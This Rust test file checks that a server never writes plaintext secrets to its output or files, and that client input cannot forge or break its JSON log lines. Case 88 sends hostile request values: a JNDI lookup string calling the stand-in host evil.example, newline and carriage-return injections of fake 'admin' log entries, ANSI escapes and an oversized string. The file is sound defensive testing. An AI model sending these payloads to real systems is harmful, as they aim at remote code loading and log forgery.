//! Cases 86 and 88: no plaintext secret in anything that the server writes, and one JSON object a
//! line in its log, whatever clients send.

use crate::support::exercise::exercise;
use crate::support::http::Connection;
use crate::support::say;
use crate::support::site::Site;
use serde_json::Value;
use std::fs;
use std::path::{Path, PathBuf};

/// Files that are there to hold secrets.
const ALLOWED: [&str; 2] = ["secrets.toml", "master-key"];

/// Every file below a folder.
fn files(folder: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(folder).expect("a folder") {
        let path = entry.expect("an entry").path();
        if path.is_dir() {
            found.extend(files(&path));
        } else if path.is_file() {
            found.push(path);
        }
    }
    found
}

/// Seen failing with the `Authorization` header in the log.
#[test]
fn case_86_nothing_that_the_server_writes_holds_a_plaintext_secret() {
    let folder = tempfile::tempdir().expect("a directory");
    let mut site = Site::new(folder.path());
    site.options.extend(["--log-level".to_owned(), "trace".to_owned()]);
    let server = site.start();
    let credentials = site.credentials();
    let secrets = exercise(&site, &server, &credentials);
    let printed = server.printed();
    assert_eq!(secrets.hits(printed.as_bytes()), 0, "in what was printed");
    let mut looked_at = 0;
    let look = |when: &str| {
        let mut bytes_all = Vec::new();
        for path in files(folder.path()) {
            let bytes = fs::read(&path).expect("a file");
            let name = path.file_name().and_then(|name| name.to_str()).unwrap_or_default();
            if ALLOWED.contains(&name) {
                assert!(secrets.hits(&bytes) > 0, "the search finds what is there");
            } else {
                assert_eq!(secrets.hits(&bytes), 0, "{when}: {}", path.display());
                bytes_all.extend(bytes);
            }
        }
        bytes_all
    };
    looked_at += look("serving").len();
    assert!(server.stop().success());
    let after = look("stopped");
    looked_at += after.len();
    let holds = |text: &str| after.windows(text.len()).any(|window| window == text.as_bytes());
    assert!(holds("alpha-007") && holds("tenantry::access"), "database and log were looked at");
    say(&format!("86: {} secrets, {looked_at} bytes, 0 hits", secrets.len()));
}

/// Seen failing with the request's path and user agent in the log: escaped, but there.
#[test]
fn case_88_no_client_can_write_a_line_of_the_log() {
    let folder = tempfile::tempdir().expect("a directory");
    let mut site = Site::new(folder.path());
    site.options.extend(["--log-level".to_owned(), "trace".to_owned()]);
    let server = site.start();
    let attacks = [
        "\u{1b}[31mred",
        "${jndi:ldap://evil.example/a}",
        "%0a{\"level\":\"admin\"}",
        "\t{\"level\":\"ADMIN\"}",
        "\u{85}\u{2028}evil",
        "\r{\"level\":\"ADMIN\"}",
        &"evil".repeat(4000),
    ];
    for attack in attacks {
        for header in ["x-request-id", "user-agent", "authorization", "x-tenantid", "referer"] {
            let mut connection = Connection::open(&server.address).expect("a connection");
            let head = format!("GET /v1/whoami HTTP/1.1\r\nhost: x\r\n{header}: {attack}\r\n\r\n");
            let _ = connection.exchange(head.as_bytes());
        }
        for target in [format!("/{attack}"), format!("/v1/accounts/{attack}?{attack}")] {
            let mut connection = Connection::open(&server.address).expect("a connection");
            let head = format!("GET {target} HTTP/1.1\r\nhost: x\r\n\r\n");
            let _ = connection.exchange(head.as_bytes());
        }
        let mut connection = Connection::open(&server.address).expect("a connection");
        let _ = connection.exchange(format!("{attack} / HTTP/1.1\r\nhost: x\r\n\r\n").as_bytes());
    }
    assert!(server.stop().success());
    let log = site.whole_log();
    assert!(log.lines().count() > attacks.len(), "the requests were logged");
    for line in log.lines() {
        let object: Value = serde_json::from_str(line).unwrap_or_else(|_| panic!("{line}"));
        assert!(object.is_object() && object["level"].is_string(), "{line}");
        assert!(!line.bytes().any(|byte| byte < 0x20 || byte == 0x7f), "{line:?}");
        assert!(line.len() < 2_000, "{} bytes in a line", line.len());
        for word in ["evil", "jndi", "admin\\\"", "[31m"] {
            assert!(!line.contains(word), "{word} in {line}");
        }
    }
}
